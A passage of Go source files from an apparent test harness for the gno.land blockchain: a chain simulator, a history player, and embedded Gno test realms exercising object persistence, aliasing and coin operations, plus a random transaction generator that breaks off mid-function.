func Fee(gasWanted int64, ugnot int64) std.Fee {
	return std.Fee{GasWanted: gasWanted, GasFee: std.Coin{Denom: "ugnot", Amount: ugnot}}
}

// SignTx signs msgs with the given signers (in order of tx.GetSigners()) using
// their model account number and sequence. It does not advance sequences.
func (c *Chain) SignTx(msgs []std.Msg, fee std.Fee, signers ...*Account) std.Tx {
	return c.SignTxChain(ChainID, msgs, fee, signers...)
}

// SignTxChain is SignTx with an explicit chain id in the sign bytes.
func (c *Chain) SignTxChain(chainID string, msgs []std.Msg, fee std.Fee, signers ...*Account) std.Tx {
	tx := std.Tx{Msgs: msgs, Fee: fee}
	for _, a := range signers {
		sb, err := tx.GetSignBytes(chainID, a.AccNum, a.Seq)
		if err != nil {
			panic(err)
		}
		sig, err := a.Key.Sign(sb)
		if err != nil {
			panic(err)
		}
		tx.Signatures = append(tx.Signatures, std.Signature{PubKey: a.Key.PubKey(), Signature: sig})
	}
	return tx
}

// TxBytes amino-encodes tx.
func TxBytes(tx std.Tx) []byte { return amino.MustMarshal(tx) }

// BeginBlock starts block Height+1.
func (c *Chain) BeginBlock() {
	c.Height++
	c.Time = c.Time.Add(5 * time.Second)
	c.App.BeginBlock(abci.RequestBeginBlock{Header: &bft.Header{ChainID: ChainID, Height: c.Height, Time: c.Time}})
	c.cur = &BlockTrace{Height: c.Height}
}

// BeginBlockAt starts the next block with an explicit header time.
func (c *Chain) BeginBlockAt(t time.Time) {
	c.Height++
	c.Time = t
	c.App.BeginBlock(abci.RequestBeginBlock{Header: &bft.Header{ChainID: ChainID, Height: c.Height, Time: c.Time}})
	c.cur = &BlockTrace{Height: c.Height}
}

// Deliver delivers raw tx bytes in the current block.
func (c *Chain) Deliver(txb []byte) *TxResult {
	res := c.App.DeliverTx(abci.RequestDeliverTx{Tx: txb})
	tr := &TxResult{Height: c.Height, Index: len(c.cur.Txs), TxBytes: txb, Res: res, OK: res.Error == nil, Log: res.Log}
	if res.Error != nil {
		tr.ErrString = fmt.Sprintf("%T: %s", res.Error, res.Error.Error())
	}
	c.cur.Txs = append(c.cur.Txs, tr)
	return tr
}

// DeliverSigned signs with the signers' model state, delivers, and advances
// the model sequences if the ante handler must have accepted the tx (the
// response reports GasWanted>0 only once ante passed the signature stage; we
// re-sync from the chain after commit to stay exact).
func (c *Chain) DeliverSigned(msgs []std.Msg, fee std.Fee, signers ...*Account) *TxResult {
	tx := c.SignTx(msgs, fee, signers...)
	tr := c.Deliver(TxBytes(tx))
	return tr
}

// EndBlockCommit ends and commits the current block.
func (c *Chain) EndBlockCommit() *BlockTrace {
	c.App.EndBlock(abci.RequestEndBlock{Height: c.Height})
	res := c.App.Commit()
	c.cur.AppHash = append([]byte(nil), res.Data...)
	bt := c.cur
	c.Trace = append(c.Trace, bt)
	c.cur = nil
	// keep the sequence model exact
	for _, a := range c.Accounts {
		c.SyncAccount(a)
	}
	return bt
}

// RunBlock delivers the txs in one block and commits.
func (c *Chain) RunBlock(txs ...[]byte) *BlockTrace {
	c.BeginBlock()
	for _, t := range txs {
		c.Deliver(t)
	}
	return c.EndBlockCommit()
}

// OneTx runs a block containing exactly one signed tx.
func (c *Chain) OneTx(msgs []std.Msg, fee std.Fee, signers ...*Account) *TxResult {
	c.BeginBlock()
	tr := c.DeliverSigned(msgs, fee, signers...)
	c.EndBlockCommit()
	return tr
}

// Restart closes the app and reopens it on the same DB (cold caches).
func (c *Chain) Restart() error {
	if c.cur != nil {
		panic("restart inside a block")
	}
	c.App.Close() // also closes the DB (no-op for memdb)
	if c.Opts.OpenDB != nil {
		c.DB = c.Opts.OpenDB()
	}
	c.Restarts++
	return c.open()
}

// Close closes the app (and DB for on-disk backends).
func (c *Chain) Close() {
	c.App.Close() // also closes the DB
}

// Query issues an ABCI query at the latest committed height.
func (c *Chain) Query(path string, data string) (string, error) {
	q := c.App.Query(abci.RequestQuery{Path: path, Data: []byte(data)})
	if q.Error != nil {
		return string(q.Data), fmt.Errorf("%s", q.Error.Error())
	}
	return string(q.Data), nil
}

// Eval runs vm/qeval "pkgpath.Expr".
func (c *Chain) Eval(pkgPath, expr string) (string, error) {
	return c.Query("vm/qeval", pkgPath+"."+expr)
}

// Balance returns the ugnot... all coins of addr via bank query.
func (c *Chain) Balance(addr crypto.Address) string {
	s, _ := c.Query("bank/balances/"+addr.String(), "")
	return s
}

// ---- message helpers ----

// Files builds a sorted MemFile list with a gnomod.toml.
func Files(pkgPath string, files map[string]string) []*std.MemFile {
	out := []*std.MemFile{}
	if _, ok := files["gnomod.toml"]; !ok {
		out = append(out, &std.MemFile{Name: "gnomod.toml", Body: gno.GenGnoModLatest(pkgPath)})
	}
	for n, b := range files {
		out = append(out, &std.MemFile{Name: n, Body: b})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// MsgAddPkg builds an add-package message.
func MsgAddPkg(creator *Account, pkgPath string, files map[string]string) vm.MsgAddPackage {
	return vm.NewMsgAddPackage(creator.Addr, pkgPath, Files(pkgPath, files))
}

// MsgCall builds a call message.
func MsgCall(caller *Account, pkgPath, fn string, args ...string) vm.MsgCall {
	return vm.NewMsgCall(caller.Addr, nil, pkgPath, fn, args)
}

// MsgRun builds a run message from a main.gno body.
func MsgRun(caller *Account, body string) vm.MsgRun {
	return vm.NewMsgRun(caller.Addr, nil, []*std.MemFile{{Name: "main.gno", Body: body}})
}

// GenesisAddPkgTx wraps an add-package as an (unsigned, sig-verification skipped) genesis tx.
func GenesisAddPkgTx(creator *Account, pkgPath string, files map[string]string) gnoland.TxWithMetadata {
	return GenesisAddPkgTxGas(creator, pkgPath, files, 500_000_000)
}

// GenesisAddPkgTxGas is GenesisAddPkgTx with an explicit GasWanted (must not exceed the block MaxGas).
func GenesisAddPkgTxGas(creator *Account, pkgPath string, files map[string]string, gas int64) gnoland.TxWithMetadata {
	return gnoland.TxWithMetadata{Tx: std.Tx{
		Msgs:       []std.Msg{MsgAddPkg(creator, pkgPath, files)},
		Fee:        Fee(gas, 1_000_000),
		Signatures: []std.Signature{{}},
	}}
}

// TraceKey renders the whole consensus-relevant trace for equality checks.
func TraceKey(tr []*BlockTrace) string {
	var b bytes.Buffer
	for _, bt := range tr {
		fmt.Fprintf(&b, "H%d %x\n", bt.Height, bt.AppHash)
		for _, t := range bt.Txs {
			fmt.Fprintf(&b, "  %d %s\n", t.Index, t.ResultKey())
		}
	}
	return b.String()
}

// InitKey renders the InitChain tx responses (consensus fields).
func InitKey(r abci.ResponseInitChain) string {
	var b bytes.Buffer
	if r.Error != nil {
		fmt.Fprintf(&b, "ERR %s\n", r.Error.Error())
	}
	rs := bft.NewResults(r.TxResponses)
	for i, x := range rs {
		fmt.Fprintf(&b, "g%d %x|%d|%d\n", i, x.Bytes(), r.TxResponses[i].GasWanted, r.TxResponses[i].GasUsed)
	}
	return b.String()
}

// AntePassed reports whether the ante handler accepted the tx (so sequences
// advanced and the fee was paid). BaseApp.runTx reports GasWanted only from the
// value the ante handler returned on success: an ante abort (or a panic inside
// the ante handler) leaves it 0, any later failure reports the fee's gas.
func AntePassed(t *TxResult) bool {
	return t.OK || t.Res.GasWanted > 0
}
