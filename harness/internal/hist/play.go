package hist

import (
	"fmt"

	"github.com/gnolang/gno/gno.land/pkg/gnoland"

	"verifharness/internal/chainsim"
)

// Monitor observes a played history.
type Monitor interface {
	OnGenesis(c *chainsim.Chain)
	OnBlock(c *chainsim.Chain, bt *chainsim.BlockTrace, specs []TxSpec)
}

// PlayOpts selects a run variant.
type PlayOpts struct {
	Chain     chainsim.Options
	RestartAt map[int]bool // restart before block index i (0-based)
	Monitors  []Monitor
	// GenesisHook may amend the genesis state (extra balances, packages, txs).
	GenesisHook func(c *chainsim.Chain, st *gnoland.GnoGenesisState)
}

// Play initialises a chain with Genesis and plays h. Returns the chain (caller closes).
func Play(h *History, o PlayOpts) (*chainsim.Chain, error) {
	c, err := chainsim.New(o.Chain)
	if err != nil {
		return nil, err
	}
	gst := Genesis(c)
	if o.GenesisHook != nil {
		o.GenesisHook(c, &gst)
	}
	r := c.InitChain(gst)
	if r.Error != nil {
		return c, fmt.Errorf("initchain: %s", r.Error.Error())
	}
	for i, tr := range r.TxResponses {
		if tr.Error != nil {
			return c, fmt.Errorf("genesis tx %d failed: %s\n%s", i, tr.Error.Error(), tr.Log)
		}
	}
	// block 1 persists genesis
	c.RunBlock()
	for _, m := range o.Monitors {
		m.OnGenesis(c)
	}
	for i, blk := range h.Blocks {
		if o.RestartAt[i] {
			if err := c.Restart(); err != nil {
				return c, fmt.Errorf("restart before block %d: %w", i, err)
			}
		}
		c.BeginBlock()
		for _, t := range blk {
			tr := PlayTx(c, t)
			// advance the in-block sequence model when the ante handler accepted the tx
			if chainsim.AntePassed(tr) {
				c.Acc(t.Signer).Seq++
			}
		}
		bt := c.EndBlockCommit()
		for _, m := range o.Monitors {
			m.OnBlock(c, bt, blk)
		}
	}
	return c, nil
}

// PlayRange plays blocks [from, to) of h on an already initialised chain
// (used to continue a history in another process).
func PlayRange(c *chainsim.Chain, h *History, from, to int) {
	for i := from; i < to && i < len(h.Blocks); i++ {
		c.BeginBlock()
		for _, t := range h.Blocks[i] {
			tr := PlayTx(c, t)
			if chainsim.AntePassed(tr) {
				c.Acc(t.Signer).Seq++
			}
		}
		c.EndBlockCommit()
	}
}
