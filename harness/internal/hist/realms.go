// Package hist generates block histories for the gno.land application:
// a fixed set of purpose-built realms deployed at genesis (or later) plus
// seeded random transaction sequences over them.
package hist

// StoreRealm exercises the persistable value kinds: ints, strings, structs,
// arrays, slices sharing a backing array, maps, pointers into arrays/structs,
// closures capturing heap items, interfaces holding declared types; ops
// attach, detach, share, re-attach and delete objects.
const StorePath = "gno.land/r/verif/store"
const StoreSrc = `package store

import (
	"strconv"
	"strings"
)

type Node struct {
	ID   int
	Tag  string
	Next *Node
	Kids []*Node
	Meta map[string]int
}

type Shape interface{ Area() int }
type Rect struct{ W, H int }
type Sq struct{ S int }

func (r Rect) Area() int { return r.W * r.H }
func (s *Sq) Area() int  { return s.S * s.S }

var (
	Counter  int
	Name     = "store"
	Head     *Node
	Pool     []*Node
	Arr      [6]int
	P1, P2   *int
	Back     = []int{1, 2, 3, 4, 5, 6, 7, 8}
	Win1     = Back[1:4]
	Win2     = Back[2:6]
	M        = map[string]*Node{}
	Funcs    []func() int
	Shapes   []Shape
	Detached *Node
	Big      []string
	Slots    [3]*Node
	nextID   int
)

func newNode(tag string) *Node {
	nextID++
	return &Node{ID: nextID, Tag: tag, Meta: map[string]int{}}
}

// ---- mutating ops (crossing) ----

func Push(cur realm, tag string) int {
	n := newNode(tag)
	n.Next = Head
	Head = n
	Counter++
	return n.ID
}

func Pop(cur realm) int {
	if Head == nil {
		return -1
	}
	n := Head
	Head = n.Next
	n.Next = nil
	return n.ID
}

func PoolAdd(cur realm, tag string) int {
	n := newNode(tag)
	Pool = append(Pool, n)
	return len(Pool)
}

// Share makes the same node reachable from Pool, M and Head chains (ref count > 1 => escaped).
func Share(cur realm, key string) int {
	if len(Pool) == 0 {
		return -1
	}
	n := Pool[len(Pool)-1]
	M[key] = n
	if Head != nil {
		Head.Kids = append(Head.Kids, n)
	}
	return n.ID
}

func Unshare(cur realm, key string) int {
	n, ok := M[key]
	if !ok {
		return -1
	}
	delete(M, key)
	return n.ID
}

func PoolDrop(cur realm) int {
	if len(Pool) == 0 {
		return -1
	}
	n := Pool[len(Pool)-1]
	Pool[len(Pool)-1] = nil
	Pool = Pool[:len(Pool)-1]
	return n.ID
}

func Detach(cur realm) int {
	if Head == nil {
		return -1
	}
	Detached = Head
	Head = Head.Next
	Detached.Next = nil
	return Detached.ID
}

func Reattach(cur realm) int {
	if Detached == nil {
		return -1
	}
	Detached.Next = Head
	Head = Detached
	Detached = nil
	return Head.ID
}

func DropDetached(cur realm) int {
	if Detached == nil {
		return -1
	}
	id := Detached.ID
	Detached = nil
	return id
}

// ---- pointer slots: objects move between slots, also through a zero
// reference count inside one finalization ----

func SlotPut(cur realm, i int, tag string) int {
	i %= len(Slots)
	Slots[i] = newNode(tag)
	return Slots[i].ID
}

func SlotSwap(cur realm, i, j int) int {
	i %= len(Slots)
	j %= len(Slots)
	Slots[i], Slots[j] = Slots[j], Slots[i]
	return i*10 + j
}

func SlotRehome(cur realm, i, j int) int {
	i %= len(Slots)
	j %= len(Slots)
	n := Slots[i]
	Slots[i] = nil
	Slots[j] = n
	if n == nil {
		return -1
	}
	return n.ID
}

func SlotDrop(cur realm, i int) int {
	i %= len(Slots)
	if Slots[i] == nil {
		return -1
	}
	id := Slots[i].ID
	Slots[i] = nil
	return id
}

// SlotAdopt: the two other slots both take over the child of slot i, and slot i (the child's
// owner so far) is dropped in the same call.
func SlotAdopt(cur realm, i int) int {
	i %= len(Slots)
	a, b, c := Slots[i], Slots[(i+1)%len(Slots)], Slots[(i+2)%len(Slots)]
	if a == nil || b == nil || c == nil || a.Next == nil {
		return -1
	}
	b.Next = a.Next
	c.Next = a.Next
	Slots[i] = nil
	return b.Next.ID
}

// SlotReset puts fresh nodes into the slots selected by mask and clears the others.
func SlotReset(cur realm, mask int) int {
	for i := range Slots {
		if mask&(1<<uint(i)) != 0 {
			Slots[i] = newNode("s")
			Slots[i].Next = newNode("t")
		} else {
			Slots[i] = nil
		}
	}
	return mask
}

// MakeNode hands a fresh node to the caller: an object of this realm's type
// that another realm keeps in its own state.
func MakeNode(cur realm, tag string) *Node {
	return newNode(tag)
}

func SetArr(cur realm, i, v int) int {
	Arr[i%len(Arr)] = v
	return Arr[i%len(Arr)]
}

// Alias points P1 and P2 into the same array (possibly the same element).
func Alias(cur realm, i, j int) int {
	P1 = &Arr[i%len(Arr)]
	P2 = &Arr[j%len(Arr)]
	return *P1 + *P2
}

func BumpAlias(cur realm, d int) int {
	if P1 == nil || P2 == nil {
		return -1
	}
	*P1 += d
	*P2 += 2 * d
	return *P1*1000 + *P2
}

// Window writes through two slices sharing one backing array.
func Window(cur realm, i, v int) int {
	Win1[i%len(Win1)] = v
	Win2[(i+1)%len(Win2)] += v
	return Back[2] + Back[3]
}

// Grow appends within capacity (aliasing Back) or over capacity (detaching).
func Grow(cur realm, n int) int {
	for i := 0; i < n%5; i++ {
		Win1 = append(Win1, 100+i)
	}
	return len(Win1)*100 + cap(Win1)
}

func Reslice(cur realm, a, b int) int {
	a, b = a%len(Back), b%len(Back)
	if a > b {
		a, b = b, a
	}
	Win2 = Back[a:b]
	return len(Win2)
}

func MetaSet(cur realm, k string, v int) int {
	if Head == nil {
		return -1
	}
	Head.Meta[k] = v
	return len(Head.Meta)
}

func MetaDel(cur realm, k string) int {
	if Head == nil {
		return -1
	}
	delete(Head.Meta, k)
	return len(Head.Meta)
}

// AddFunc stores a closure capturing a fresh heap variable and a shared node.
func AddFunc(cur realm, seed int) int {
	acc := seed
	n := Head
	Funcs = append(Funcs, func() int {
		acc += 3
		if n != nil {
			n.Meta["calls"]++
			return acc + n.ID
		}
		return acc
	})
	return len(Funcs)
}

func CallFuncs(cur realm) int {
	t := 0
	for _, f := range Funcs {
		t += f()
	}
	return t
}

func DropFuncs(cur realm) int {
	n := len(Funcs)
	Funcs = nil
	return n
}

func AddShape(cur realm, kind, a, b int) int {
	if kind%2 == 0 {
		Shapes = append(Shapes, Rect{a, b})
	} else {
		Shapes = append(Shapes, &Sq{a})
	}
	return len(Shapes)
}

func GrowSq(cur realm, d int) int {
	t := 0
	for _, s := range Shapes {
		if q, ok := s.(*Sq); ok {
			q.S += d
		}
		t += s.Area()
	}
	return t
}

func BigGrow(cur realm, n int) int {
	for i := 0; i < n; i++ {
		Big = append(Big, strings.Repeat("x", 40)+strconv.Itoa(len(Big)))
	}
	return len(Big)
}

func BigShrink(cur realm, n int) int {
	if n > len(Big) {
		n = len(Big)
	}
	for i := len(Big) - n; i < len(Big); i++ {
		Big[i] = ""
	}
	Big = Big[:len(Big)-n]
	if len(Big) == 0 {
		Big = nil
	}
	return len(Big)
}

func Rename(cur realm, s string) string {
	old := Name
	Name = s
	return old
}

// Fail mutates a lot and then panics: nothing may stick.
func Fail(cur realm, tag string) {
	Push(cur, tag)
	Arr[0] = -777
	M["fail"] = newNode("fail")
	Big = append(Big, "fail")
	panic("store: deliberate failure " + tag)
}

// Burn loops n times (gas).
func Burn(cur realm, n int) int {
	x := 0
	for i := 0; i < n; i++ {
		x += i
		Counter += i & 1
	}
	return x
}

// ---- read-only ----

func GetHead() *Node           { return Head }
func GetBack() []int           { return Back }
func GetM() map[string]*Node   { return M }
func GetArrPtr() *[6]int       { return &Arr }

func dumpNode(n *Node, depth int) string {
	if n == nil {
		return "nil"
	}
	if depth > 40 {
		return "..."
	}
	s := "N" + strconv.Itoa(n.ID) + ":" + n.Tag + "{"
	keys := []string{}
	for k := range n.Meta {
		keys = append(keys, k)
	}
	sortStrings(keys)
	for _, k := range keys {
		s += k + "=" + strconv.Itoa(n.Meta[k]) + ","
	}
	s += "}["
	for _, k := range n.Kids {
		if k == nil {
			s += "nil,"
		} else {
			s += strconv.Itoa(k.ID) + ","
		}
	}
	s += "]->" + dumpNode(n.Next, depth+1)
	return s
}

func sortStrings(a []string) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

func ints(a []int) string {
	s := "["
	for _, v := range a {
		s += strconv.Itoa(v) + " "
	}
	return s + "]"
}

func Dump() string {
	s := "C=" + strconv.Itoa(Counter) + " N=" + Name + " H=" + dumpNode(Head, 0)
	s += " Pool=["
	for _, n := range Pool {
		s += dumpNode(n, 30) + ";"
	}
	s += "] Arr=" + ints(Arr[:])
	if P1 != nil {
		s += " P1=" + strconv.Itoa(*P1)
	}
	if P2 != nil {
		s += " P2=" + strconv.Itoa(*P2)
	}
	s += " Back=" + ints(Back) + " W1=" + ints(Win1) + " W2=" + ints(Win2)
	keys := []string{}
	for k := range M {
		keys = append(keys, k)
	}
	sortStrings(keys)
	s += " M={"
	for _, k := range keys {
		s += k + ":" + strconv.Itoa(M[k].ID) + ","
	}
	s += "} F=" + strconv.Itoa(len(Funcs)) + " S=["
	for _, sh := range Shapes {
		s += strconv.Itoa(sh.Area()) + ","
	}
	s += "] D=" + dumpNode(Detached, 30) + " Big=" + strconv.Itoa(len(Big)) + " Sl=["
	for _, n := range Slots {
		s += dumpNode(n, 30) + ";"
	}
	s += "] nid=" + strconv.Itoa(nextID)
	return s
}
`

// LibPath is a pure package with a type with mutating methods and a closure factory.
const LibPath = "gno.land/p/verif/lib"
const LibSrc = `package lib

type Box struct {
	V    int
	Hist []int
}

func (b *Box) Add(d int) int {
	b.V += d
	b.Hist = append(b.Hist, b.V)
	return b.V
}

func (b *Box) Len() int { return len(b.Hist) }

func MakeCounter() func() int {
	n := 0
	return func() int { n++; return n }
}

func Sum(a []int) int {
	t := 0
	for _, v := range a {
		t += v
	}
	return t
}
`

// PeerRealm calls into the store realm, keeps references to store-owned
// objects, owns a /p/ typed box, sends and receives coins.
const PeerPath = "gno.land/r/verif/peer"
const PeerSrc = `package peer

import (
	"chain"
	"chain/banker"
	"strconv"

	"gno.land/p/verif/lib"
	"gno.land/r/verif/store"
)

var (
	Seen    *store.Node
	Box     = &lib.Box{}
	Ctr     = lib.MakeCounter()
	Calls   int
	Notes   []string
	Paid    int64
	Held    []*store.Node
	Pad     []string
)

func Relay(cur realm, tag string) int {
	Calls++
	id := store.Push(cross(cur), tag)
	Seen = store.GetHead()
	Notes = append(Notes, tag)
	return id*10 + Ctr()
}

func RelayFail(cur realm, tag string) int {
	Calls++
	Notes = append(Notes, "pre-"+tag)
	store.Fail(cross(cur), tag)
	return 0
}

func BoxAdd(cur realm, d int) int {
	return Box.Add(d)
}

func Forget(cur realm) int {
	Seen = nil
	n := len(Notes)
	Notes = nil
	return n
}

// Hold keeps an object created by (and of a type declared in) the store realm
// in this realm's state; Release / ReleaseAll only let go of such objects.
func Hold(cur realm, tag string) int {
	n := store.MakeNode(cross(cur), tag)
	Held = append(Held, n)
	return n.ID
}

func Release(cur realm) int {
	if len(Held) == 0 {
		return -1
	}
	n := Held[len(Held)-1]
	Held[len(Held)-1] = nil
	Held = Held[:len(Held)-1]
	return n.ID
}

func ReleaseAll(cur realm) int {
	n := len(Held)
	Held = nil
	return n
}

// GrowBoth grows this realm and the store realm by about the same number of bytes in one message.
func GrowBoth(cur realm, n int) int {
	for i := 0; i < n; i++ {
		Pad = append(Pad, "yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy"+strconv.Itoa(len(Pad)))
	}
	return store.BigGrow(cross(cur), n) + len(Pad)
}

func ShrinkPad(cur realm, n int) int {
	if n > len(Pad) {
		n = len(Pad)
	}
	Pad = Pad[:len(Pad)-n]
	if len(Pad) == 0 {
		Pad = nil
	}
	return len(Pad)
}

func Pay(cur realm, to string, amt int64) int64 {
	b := banker.NewBanker(banker.BankerTypeRealmSend, cur)
	b.SendCoins(cur.Address(), address(to), chain.Coins{chain.NewCoin("ugnot", amt)})
	Paid += amt
	return Paid
}

func Mint(cur realm, to string, denom string, amt int64) int64 {
	b := banker.NewBanker(banker.BankerTypeRealmIssue, cur)
	full := "/gno.land/r/verif/peer:" + denom
	b.IssueCoin(address(to), full, amt)
	return b.TotalCoin(full)
}

func BurnCoin(cur realm, from string, denom string, amt int64) int64 {
	b := banker.NewBanker(banker.BankerTypeRealmIssue, cur)
	full := "/gno.land/r/verif/peer:" + denom
	b.RemoveCoin(address(from), full, amt)
	return b.TotalCoin(full)
}

func Dump() string {
	s := "calls=" + strconv.Itoa(Calls) + " box=" + strconv.Itoa(Box.V) + "/" + strconv.Itoa(Box.Len()) + " notes=" + strconv.Itoa(len(Notes)) + " paid=" + strconv.Itoa(int(Paid))
	if Seen != nil {
		s += " seen=" + strconv.Itoa(Seen.ID) + ":" + Seen.Tag
	}
	s += " pad=" + strconv.Itoa(len(Pad)) + " held=["
	for _, n := range Held {
		s += strconv.Itoa(n.ID) + ":" + n.Tag + ","
	}
	s += "]"
	return s
}
`

// CfgRealm writes realm-local chain parameters (metered into the realm's storage).
const CfgPath = "gno.land/r/verif/cfg"
const CfgSrc = `package cfg

import (
	"chain/params"
	"strings"
)

var Writes int

func SetS(cur realm, k string, n int) int {
	params.SetString(k, strings.Repeat("v", n))
	Writes++
	return Writes
}

func SetI(cur realm, k string, v int64) int {
	params.SetInt64(k, v)
	Writes++
	return Writes
}

func SetB(cur realm, k string, n int) int {
	var b []byte
	if n > 0 {
		b = []byte(strings.Repeat("b", n))
	}
	params.SetBytes(k, b)
	Writes++
	return Writes
}

func SetL(cur realm, k string, n int) int {
	l := []string{}
	for i := 0; i < n; i++ {
		l = append(l, strings.Repeat("e", i+1))
	}
	params.SetStrings(k, l)
	Writes++
	return Writes
}
`
