package hist

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/gnolang/gno/gno.land/pkg/gnoland"
	"github.com/gnolang/gno/gno.land/pkg/sdk/vm"
	gno "github.com/gnolang/gno/gnovm/pkg/gnolang"
	"github.com/gnolang/gno/tm2/pkg/crypto"
	"github.com/gnolang/gno/tm2/pkg/sdk/bank"
	"github.com/gnolang/gno/tm2/pkg/std"

	"verifharness/internal/chainsim"
)

// Users funded at genesis.
var Users = []string{"alice", "bob", "carol", "dave"}

// PeerDenom is the realm denomination the peer realm issues and burns.
const PeerDenom = "/gno.land/r/verif/peer:tok"

// MsgSpec is an abstract message (addresses resolved at play time).
type MsgSpec struct {
	Kind   string   `json:"kind"` // call | run | addpkg | send
	Pkg    string   `json:"pkg,omitempty"`
	Func   string   `json:"func,omitempty"`
	Args   []string `json:"args,omitempty"`
	Body   string   `json:"body,omitempty"`  // run: main.gno; addpkg: file body
	To     string   `json:"to,omitempty"`    // send: user name or "realm:<path>"
	Amount int64    `json:"amount,omitempty"`
	Denom  string   `json:"denom,omitempty"` // send: default ugnot
	To2    string   `json:"to2,omitempty"`   // multisend: second output (amount split in two)
	File   string   `json:"file,omitempty"` // addpkg: file name (default <name>.gno)
	Send   int64    `json:"send,omitempty"` // coins attached to call
	MaxDep int64    `json:"maxdep,omitempty"`
}

// TxSpec is an abstract transaction.
type TxSpec struct {
	Signer string    `json:"signer"`
	Msgs   []MsgSpec `json:"msgs"`
	Gas    int64     `json:"gas"`
	Fee    int64     `json:"fee"`
	Label  string    `json:"label"`
	Tamper string    `json:"tamper,omitempty"` // badsig | seq+1 | seq-1 | wrongchain | nosig | tinygas
}

// History is a list of blocks.
type History struct {
	Seed   uint64     `json:"seed"`
	Blocks [][]TxSpec `json:"blocks"`
}

// Genesis returns the genesis state with the verif realms deployed.
func Genesis(c *chainsim.Chain) gnoland.GnoGenesisState {
	st := c.DefaultGenState(Users...)
	dep := c.Acc("alice")
	gas := int64(500_000_000)
	if c.Opts.MaxGas < gas {
		gas = c.Opts.MaxGas
	}
	st.Txs = append(st.Txs,
		chainsim.GenesisAddPkgTxGas(dep, LibPath, map[string]string{"lib.gno": LibSrc}, gas),
		chainsim.GenesisAddPkgTxGas(dep, StorePath, map[string]string{"store.gno": StoreSrc}, gas),
		chainsim.GenesisAddPkgTxGas(dep, PeerPath, map[string]string{"peer.gno": PeerSrc}, gas),
		chainsim.GenesisAddPkgTxGas(dep, CfgPath, map[string]string{"cfg.gno": CfgSrc}, gas),
	)
	// fund the peer realm so Pay can succeed
	st.Balances = append(st.Balances, gnoland.Balance{Address: RealmAddr(PeerPath), Amount: std.Coins{{Denom: "ugnot", Amount: 5_000_000_000}}})
	return st
}

// RealmAddr derives a realm's package address.
func RealmAddr(path string) crypto.Address {
	return gno.DerivePkgCryptoAddr(path)
}

var tags = []string{"a", "b", "c", "zz", "k1", "k2", "", "λ"}

func pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func itoa(n int) string { return fmt.Sprint(n) }

// storeOp returns a random store-realm call.
func storeOp(r *rand.Rand) MsgSpec {
	type op struct {
		f    string
		args func() []string
	}
	t := func() string { return pick(r, tags) }
	n := func(m int) string { return itoa(r.IntN(m)) }
	ops := []op{
		{"Push", func() []string { return []string{t()} }},
		{"Push", func() []string { return []string{t()} }},
		{"Pop", func() []string { return nil }},
		{"PoolAdd", func() []string { return []string{t()} }},
		{"Share", func() []string { return []string{t()} }},
		{"Unshare", func() []string { return []string{t()} }},
		{"PoolDrop", func() []string { return nil }},
		{"Detach", func() []string { return nil }},
		{"Reattach", func() []string { return nil }},
		{"DropDetached", func() []string { return nil }},
		{"SetArr", func() []string { return []string{n(12), n(100)} }},
		{"Alias", func() []string { return []string{n(6), n(6)} }},
		{"BumpAlias", func() []string { return []string{n(9)} }},
		{"Window", func() []string { return []string{n(8), n(50)} }},
		{"Grow", func() []string { return []string{n(10)} }},
		{"Reslice", func() []string { return []string{n(8), n(8)} }},
		{"MetaSet", func() []string { return []string{t(), n(99)} }},
		{"MetaDel", func() []string { return []string{t()} }},
		{"AddFunc", func() []string { return []string{n(50)} }},
		{"CallFuncs", func() []string { return nil }},
		{"DropFuncs", func() []string { return nil }},
		{"AddShape", func() []string { return []string{n(2), n(9), n(9)} }},
		{"GrowSq", func() []string { return []string{n(4)} }},
		{"BigGrow", func() []string { return []string{n(30)} }},
		{"BigShrink", func() []string { return []string{n(40)} }},
		{"Rename", func() []string { return []string{"nm" + t()} }},
		{"SlotPut", func() []string { return []string{n(3), t()} }},
		{"SlotPut", func() []string { return []string{n(3), t()} }},
		{"SlotSwap", func() []string { return []string{n(3), n(3)} }},
		{"SlotRehome", func() []string { return []string{n(3), n(3)} }},
		{"SlotDrop", func() []string { return []string{n(3)} }},
		{"SlotAdopt", func() []string { return []string{n(3)} }},
		{"SlotReset", func() []string { return []string{n(8)} }},
	}
	o := pick(r, ops)
	return MsgSpec{Kind: "call", Pkg: StorePath, Func: o.f, Args: o.args()}
}

func peerOp(r *rand.Rand) MsgSpec {
	switch r.IntN(12) {
	case 8, 9:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Hold", Args: []string{pick(r, tags)}}
	case 10:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Release"}
	case 11:
		if r.IntN(3) == 0 {
			return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "ReleaseAll"}
		}
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Release"}
	case 0, 1:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Relay", Args: []string{pick(r, tags)}}
	case 2:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "BoxAdd", Args: []string{itoa(r.IntN(20))}}
	case 3:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Forget"}
	case 4:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Pay", Args: []string{"@" + pick(r, Users), itoa(1 + r.IntN(5000))}}
	case 5:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "BurnCoin", Args: []string{"@" + pick(r, Users), "tok", itoa(1 + r.IntN(600))}}
	default:
		return MsgSpec{Kind: "call", Pkg: PeerPath, Func: "Mint", Args: []string{"@" + pick(r, Users), "tok", itoa(1 + r.IntN(1000))}}
	}
}

// cfgOp writes, resizes or deletes realm-local chain parameters.
func cfgOp(r *rand.Rand) MsgSpec {
	k := pick(r, []string{"alpha", "beta", "g.h", "k_1"})
	switch r.IntN(5) {
	case 0:
		return MsgSpec{Kind: "call", Pkg: CfgPath, Func: "SetS", Args: []string{k, itoa(r.IntN(200))}}
	case 1:
		return MsgSpec{Kind: "call", Pkg: CfgPath, Func: "SetI", Args: []string{k, itoa(r.IntN(1 << 30))}}
	case 2:
		return MsgSpec{Kind: "call", Pkg: CfgPath, Func: "SetB", Args: []string{k, itoa(r.IntN(120))}}
